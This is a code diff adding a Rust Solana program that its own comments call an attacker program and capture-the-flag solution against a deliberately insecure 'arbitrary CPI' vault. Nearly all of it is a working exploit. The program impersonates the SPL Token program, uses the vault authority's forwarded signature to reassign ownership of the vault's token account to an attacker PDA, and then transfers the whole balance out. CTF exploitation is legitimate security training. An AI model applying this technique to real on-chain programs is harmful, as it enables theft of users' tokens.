@@ -0,0 +1,128 @@
+// Attacker program for the insecure `Arbitary_CPI` vault, and a solution to its CTF challenge.
+//
+// The vault CPIs a hand-rolled SPL `Transfer` into whatever `token_program` it is handed,
+// signing for its vault authority PDA. Passed in as that "token program", this program gets
+// the vault's signature and uses it on the real SPL Token program:
+//    - Frontend (tag 1, sent by the victim's wallet) : pick the withdrawal's user token account
+//    - Transfer (tag 3, sent by the vault)           : make our `player` PDA the owner of the vault ATA
+//    - Sweep    (tag 0, sent by us)                  : move everything out of the stolen ATA
+//
+// The real token program has to reach us as an account, so the "frontend" has the victim
+// pass it in the vault's `user_token_account` slot.
+
+use solana_program::{
+    account_info::{next_account_info, AccountInfo},
+    declare_id,
+    entrypoint::ProgramResult,
+    msg,
+    program::{invoke, invoke_signed, set_return_data},
+    program_error::ProgramError,
+    program_pack::Pack,
+    pubkey::Pubkey,
+};
+
+use spl_token::{
+    instruction::{set_authority, transfer, AuthorityType},
+    state::Account as TokenAccount,
+};
+
+declare_id!("skh4rHvn8vgd88iU9VNMjMejeBLymBcJ7z8JVeECiz7");
+
+pub const PLAYER_SEED: &[u8] = b"player";
+
+#[cfg(not(feature = "no-entrypoint"))]
+solana_program::entrypoint!(process_instruction);
+
+pub fn process_instruction(
+    program_id: &Pubkey,
+    accounts: &[AccountInfo],
+    instruction_data: &[u8],
+) -> ProgramResult {
+    match instruction_data.first() {
+        Some(0) => sweep(program_id, accounts),
+        Some(1) => {
+            set_return_data(spl_token::id().as_ref());
+            Ok(())
+        }
+        Some(3) => hijack(program_id, accounts),
+        _ => Err(ProgramError::InvalidInstructionData),
+    }
+}
+
+// Called by the vault in place of SPL Token `Transfer { amount }`
+fn hijack(program_id: &Pubkey, accounts: &[AccountInfo]) -> ProgramResult {
+    let accounts_iter = &mut accounts.iter();
+
+    let vault_token_account = next_account_info(accounts_iter)?;
+    let token_program = next_account_info(accounts_iter)?; // the vault thinks this is the user's token account
+    let vault_authority = next_account_info(accounts_iter)?; // signed for by the vault
+
+    let (player, _) = Pubkey::find_program_address(&[PLAYER_SEED], program_id);
+
+    let set_owner_ix = set_authority(
+        token_program.key,
+        vault_token_account.key,
+        Some(&player),
+        AuthorityType::AccountOwner,
+        vault_authority.key,
+        &[],
+    )?;
+
+    invoke(
+        &set_owner_ix,
+        &[
+            vault_token_account.clone(),
+            vault_authority.clone(),
+            token_program.clone(),
+        ],
+    )?;
+
+    msg!("Vault token account now owned by {}", player);
+
+    Ok(())
+}
+
+// Accounts follow the CTF runner's layout for the `arbitrary-cpi` challenge
+fn sweep(program_id: &Pubkey, accounts: &[AccountInfo]) -> ProgramResult {
+    let accounts_iter = &mut accounts.iter();
+
+    let _wallet = next_account_info(accounts_iter)?;
+    let player = next_account_info(accounts_iter)?;
+    let _system_program = next_account_info(accounts_iter)?;
+    let _target_program = next_account_info(accounts_iter)?;
+    let _mint = next_account_info(accounts_iter)?;
+    let stolen_token_account = next_account_info(accounts_iter)?;
+    let destination_token_account = next_account_info(accounts_iter)?;
+    let token_program = next_account_info(accounts_iter)?;
+
+    let (expected_player, bump) = Pubkey::find_program_address(&[PLAYER_SEED], program_id);
+    if expected_player != *player.key {
+        return Err(ProgramError::InvalidSeeds);
+    }
+
+    let amount = TokenAccount::unpack(&stolen_token_account.data.borrow())?.amount;
+
+    let transfer_ix = transfer(
+        token_program.key,
+        stolen_token_account.key,
+        destination_token_account.key,
+        player.key,
+        &[],
+        amount,
+    )?;
+
+    invoke_signed(
+        &transfer_ix,
+        &[
+            stolen_token_account.clone(),
+            destination_token_account.clone(),
+            player.clone(),
+            token_program.clone(),
+        ],
+        &[&[PLAYER_SEED, &[bump]]],
+    )?;
+
+    msg!("Funds drained!");
+
+    Ok(())
+}